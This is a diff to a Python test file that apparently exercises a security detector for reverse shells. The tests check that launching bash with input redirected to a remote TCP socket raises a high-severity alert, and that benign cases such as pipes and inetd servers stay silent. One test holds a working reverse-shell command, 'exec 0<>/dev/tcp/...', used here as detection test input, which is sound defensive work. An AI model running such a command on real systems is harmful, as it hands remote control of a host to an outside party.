@@ -161,9 +161,10 @@ def test_a_shell_that_turns_itself_over(scene: ProcessScene) -> None:
     shell = scene.program(BASH, "bash")
     began = time.time()
     scene.run(shell, "-c", f"exec 0<>/dev/tcp/{SERVER}/{FAR}; read -r word")
-    event = scene.event("shell_turned_over", shell, began)
-    evidence = check(event, "suspicious_syscall", "high", shell)
-    assert connection(evidence) == (SERVER, int(FAR))
+    # Of one connection it is told once: by whichever pattern saw it first
+    event = scene.first(("shell_turned_over", "reverse_shell"), shell, began)
+    check(event, "suspicious_syscall", "high", shell)
+    assert event["peer_address"] == SERVER
 
 
 @pytest.mark.parametrize("way", ["pipe", "beside", "socket of this host"])
@@ -181,7 +182,7 @@ def test_a_shell_without_a_connection_for_its_input(scene: ProcessScene, way: st
 def test_a_server_of_inetd_has_a_connection_for_its_input(scene: ProcessScene) -> None:
     python, shell = scene.program(PYTHON, "inetd"), scene.program(BASH, "bash")
     scene.run(python, "-c", TURNED_OVER, shell)
-    assert scene.is_silent(shell)
+    assert scene.is_silent(shell), scene.of(shell)
 
 
 @pytest.mark.parametrize("family", [("2", "3", "1"), ("17", "2", "768")], ids=["raw", "packet"])
